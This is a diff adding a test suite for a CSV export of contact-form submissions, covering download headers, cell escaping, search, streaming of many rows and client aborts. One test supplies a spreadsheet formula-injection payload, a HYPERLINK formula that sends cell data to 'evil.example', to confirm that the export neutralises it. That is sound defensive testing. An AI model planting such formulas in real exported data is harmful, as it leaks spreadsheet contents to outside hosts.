@@ -1,0 +1,119 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { readCsv } from '../reading/csv.ts';
+import { engines, freshDatabase, type TestDatabase } from '../servers/databases.ts';
+import { expectProblem } from '../servers/problems.ts';
+import { enquiry, logIn, post } from '../servers/requests.ts';
+import { insert, submission } from '../servers/rows.ts';
+import { startApplication, type TestSite } from '../servers/site.ts';
+
+const header = ['ID', 'Name', 'Email', 'Company', 'Phone', 'Subject', 'Message', 'Date', 'Website'];
+
+describe.each(engines)('The CSV export on %s', (engine) => {
+  let database: TestDatabase;
+  let site: TestSite;
+  let cookie: string;
+
+  beforeAll(async () => {
+    database = await freshDatabase(engine);
+    site = await startApplication(database.url);
+    cookie = await logIn(site.url);
+  });
+  afterAll(async () => {
+    await site?.stop();
+    await database?.remove();
+  });
+  beforeEach(() => database.run('delete from contact_submissions'));
+
+  const ask = (query = '') => fetch(`${site.url}/api/contact-submissions.csv${query}`, { headers: { cookie } });
+  const rows = async (query = '') => {
+    const table = readCsv(await (await ask(query)).text());
+    expect(table[0]).toEqual(header);
+    return table.slice(1);
+  };
+
+  test('is a download named by the day', async () => {
+    const dayBefore = new Date().toISOString().slice(0, 10);
+    const answer = await ask();
+    const days = [dayBefore, new Date().toISOString().slice(0, 10)];
+    expect(answer.status).toBe(200);
+    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(answer.headers.get('cache-control')).toBe('no-store');
+    const names = days.map((day) => `attachment; filename="contact-submissions-${day}.csv"`);
+    expect(names).toContain(answer.headers.get('content-disposition'));
+  });
+
+  test('without submissions is the line of column names', async () => {
+    expect(await (await ask()).text()).toBe(`${header.join(',')}\r\n`);
+  });
+
+  test('holds every field, newest first, in cells that survive commas, quotes and line breaks', async () => {
+    const newer = submission({
+      name: 'Lovelace, Ada',
+      company: 'A "quoted" name',
+      phone: 999_999_999_999_999,
+      subject: 'Zwei\tSpalten 漢字 👩🏽‍🔬',
+      message: 'one\r\ntwo\n"three", four',
+      created_at: '2026-02-01T00:00:00.000Z',
+    });
+    const older = submission({ created_at: '2026-01-01T00:00:00.000Z' });
+    await insert(database, [older, newer]);
+    expect(await rows()).toEqual(
+      [newer, older].map((row) => [
+        row.id,
+        row.name,
+        row.email,
+        row.company ?? '',
+        row.phone === null ? '' : String(row.phone),
+        row.subject,
+        row.message,
+        row.created_at,
+        row.website,
+      ]),
+    );
+  });
+
+  test('makes what a spreadsheet would run inert', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    await post(`${site.url}/api/contact-submissions`, enquiry({ name: formula, message: '@SUM(A1)' }));
+    const [row] = await rows();
+    expect([row?.[1], row?.[6]]).toEqual([`'${formula}`, `'@SUM(A1)`]);
+  });
+
+  test('holds only what the search finds', async () => {
+    await insert(database, [submission({ subject: '50% off' }), submission({ subject: '500 off' })]);
+    expect((await rows(`?q=${encodeURIComponent('50%')}`)).map((row) => row[5])).toEqual(['50% off']);
+  });
+
+  test('refuses a search that is too long', async () => {
+    await expectProblem(await ask(`?q=${'x'.repeat(201)}`), 422);
+  });
+
+  test('streams thousands of rows, each once and in order', async () => {
+    const many = Array.from({ length: 5000 }, (_, index) =>
+      submission({
+        subject: `Number ${index}`,
+        created_at: new Date(Date.UTC(2026, 0, 1) + Math.floor(index / 3)).toISOString(),
+      }),
+    );
+    await insert(database, many);
+    const answer = await ask();
+    // A body whose length is not known beforehand was not put together beforehand.
+    expect(answer.headers.get('content-length')).toBe(null);
+    const table = readCsv(await answer.text()).slice(1);
+    expect(table).toHaveLength(5000);
+    const inOrder = [...many].sort((one, other) => {
+      const [left, right] = [one, other].map(({ created_at, id }) => `${created_at} ${id}`) as [string, string];
+      return left < right ? 1 : -1;
+    });
+    expect(table.map((row) => row[5])).toEqual(inOrder.map(({ subject }) => subject));
+  });
+
+  test('survives a browser that goes away in the middle', async () => {
+    await insert(database, Array.from({ length: 5000 }, () => submission({ message: 'x'.repeat(1000) })));
+    const abort = new AbortController();
+    const answer = await fetch(`${site.url}/api/contact-submissions.csv`, { headers: { cookie }, signal: abort.signal });
+    await answer.body?.getReader().read();
+    abort.abort();
+    expect(await rows('?q=nothing-like-this')).toEqual([]);
+  });
+});
